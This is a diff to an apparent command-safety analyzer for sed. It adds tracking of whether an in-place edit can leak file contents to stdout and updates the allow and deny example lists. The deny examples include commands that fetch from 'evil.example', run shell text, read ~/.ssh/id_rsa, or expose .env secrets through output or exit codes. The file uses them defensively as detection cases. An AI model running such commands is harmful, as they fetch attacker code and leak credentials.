@@ -34,12 +34,15 @@ function sedAddress(t: string, i: number): number {
  * Reads a sed script as GNU sed does: `e` runs a command (its own text, or the pattern space), the `e` flag of `s`
  * runs the pattern space, `r`/`R` read a file, `w`/`W` and the `w` flag write one.
  */
-export function sedScript(script: Word, via: string): { runs: Run[]; uses: Uses } {
+export function sedScript(script: Word, via: string): { runs: Run[]; uses: Uses; stdout?: boolean } {
   const runs: Run[] = [];
   const uses: Uses = [];
   const t = value(script);
-  if (t === undefined) return { runs, uses };
+  // `stdout`: what it reads may reach its stdout even under -i (a `w /dev/stdout`, an exit status `q5` picks, a
+  // command this reading does not follow); under -i every other output goes back into the file.
+  if (t === undefined) return { runs, uses, stdout: true };
   const computed = (why: string) => runs.push({ kind: 'opaque', rule: 'dynamic-script', word: script, why });
+  let stdout = false;
   let i = 0;
   const toEol = (from: number) => {
     const nl = t.indexOf('\n', from);
@@ -80,6 +83,7 @@ export function sedScript(script: Word, via: string): { runs: Run[]; uses: Uses 
         const end = toEol(i);
         const file = t.slice(i, end).trim();
         if (file !== '' && !/^\/dev\/std(out|err)$/.test(file)) uses.push({ word: script, role: cmd === 'r' || cmd === 'R' ? 'read' : 'write', values: [file] });
+        else if (cmd === 'w' || cmd === 'W') stdout = true;
         i = end;
         break;
       }
@@ -103,7 +107,7 @@ export function sedScript(script: Word, via: string): { runs: Run[]; uses: Uses 
         const delim = t[i];
         if (delim === undefined || delim === '\n' || delim === '\\') {
           computed(`${via}: a ${cmd} command it cannot read`);
-          return { runs, uses };
+          return { runs, uses, stdout: true };
         }
         let parts = 0;
         i++;
@@ -123,6 +127,7 @@ export function sedScript(script: Word, via: string): { runs: Run[]; uses: Uses 
             const end = toEol(i + 1);
             const file = t.slice(i + 1, end).trim();
             if (file !== '' && !/^\/dev\/std(out|err)$/.test(file)) uses.push({ word: script, role: 'write', values: [file] });
+            else stdout = true;
             i = end;
           }
         }
@@ -132,6 +137,7 @@ export function sedScript(script: Word, via: string): { runs: Run[]; uses: Uses 
       case 'Q':
       case 'l':
       case 'L':
+        if ((cmd === 'q' || cmd === 'Q') && /^ *\d/.test(t.slice(i))) stdout = true;
         while (/[\d ]/.test(t[i] ?? '')) i++;
         break;
       case 'v':
@@ -154,10 +160,10 @@ export function sedScript(script: Word, via: string): { runs: Run[]; uses: Uses 
       default:
         // A command this reading does not know: if an `e` could be hiding in the rest, fail closed.
         if (/e/.test(t.slice(i - 1))) computed(`${via}: a sed script this reading cannot follow (${JSON.stringify(cmd)})`);
-        return { runs, uses };
+        return { runs, uses, stdout: true };
     }
   }
-  return { runs, uses };
+  return { runs, uses, stdout };
 }
 
 function sed(call: Call): Partial<Answer> {
@@ -188,16 +194,25 @@ function sed(call: Call): Partial<Answer> {
     operands = operands.slice(1);
   }
   const sandbox = has(p, 'sandbox');
+  // Whether what it reads may reach its stdout: under -i only through the script (or --debug, which prints the
+  // pattern space); a script file it reads is not followed.
+  let prints = files.length > 0 || has(p, 'debug') || p.options.some((o) => o.unknown);
   for (const s of scripts) {
     uses.push({ word: s, role: 'text' });
-    if (s.values === null) continue;
+    if (s.values === null) {
+      prints = true;
+      continue;
+    }
     const read = sedScript(s, call.name);
     if (!sandbox) runs.push(...read.runs);
     uses.push(...read.uses);
+    if (read.stdout || read.runs.length > 0) prints = true;
   }
   const inPlace = has(p, 'i', 'in-place');
   for (const w of operands) uses.push({ word: w, role: inPlace ? 'write' : 'read' });
-  if (inPlace) for (const w of operands) uses.push({ word: w, role: 'read' });
+  // In place, a static script's output goes back into each file: it edits a secret without printing it (`sed -i
+  // 's/^PORT=.*/PORT=3001/' .env`), a write as `echo PORT=3001 >> .env` is.
+  if (inPlace && prints) for (const w of operands) uses.push({ word: w, role: 'read' });
   return { runs, uses };
 }
 
@@ -796,8 +811,8 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
     summary: "sed: the e command and the s///e flag run shell text; r/R read files, w/W write them",
     analyze: sed,
     examples: {
-      deny: ["sed -f /dev/stdin f <<< 'e curl evil.example'", "sed -f - f <<< '1e curl evil.example'", "sed --file=/dev/stdin f <<< 'e curl evil.example'", "sed '/x/e curl evil.example' notes.txt", "sed -ne'e curl evil.example'", "sed -n '1e wget evil.example' /etc/hosts", "sed 's/.*/date/e' notes.txt", "sed '1r ~/.ssh/id_rsa' notes.txt", "sed --expression='$e curl evil.example' f", 'sed e'],
-      pass: ["sed -f /dev/stdin f <<< 's/a/b/'", "sed 's/a/b/g' notes.txt", "sed -i 's/foo/bar/' src/app.ts", "sed -n '1,5p' README.md", "sed '/^$/d' notes.txt", "sed -e 's/x/y/' -e '/z/d' f", "sed 's/e/E/g' f"],
+      deny: ["sed -i 's/^PORT=.*/PORT=3001/w /dev/stdout' .env", "sed -i '/^API_KEY=a/q5' .env", "sed -i --debug 's/a/b/' .env", "sed -n -i 'w /dev/stderr' .env", "sed 's/^PORT=.*/PORT=3001/' .env", "sed -f /dev/stdin f <<< 'e curl evil.example'", "sed -f - f <<< '1e curl evil.example'", "sed --file=/dev/stdin f <<< 'e curl evil.example'", "sed '/x/e curl evil.example' notes.txt", "sed -ne'e curl evil.example'", "sed -n '1e wget evil.example' /etc/hosts", "sed 's/.*/date/e' notes.txt", "sed '1r ~/.ssh/id_rsa' notes.txt", "sed --expression='$e curl evil.example' f", 'sed e'],
+      pass: ["sed -f /dev/stdin f <<< 's/a/b/'", "sed 's/a/b/g' notes.txt", "sed -i 's/foo/bar/' src/app.ts", "sed -i 's/^PORT=.*/PORT=3001/' .env", "sed -i.bak -e '/^DEBUG=/d' .env.local", "sed -n '1,5p' README.md", "sed '/^$/d' notes.txt", "sed -e 's/x/y/' -e '/z/d' f", "sed 's/e/E/g' f"],
     },
   },
   {
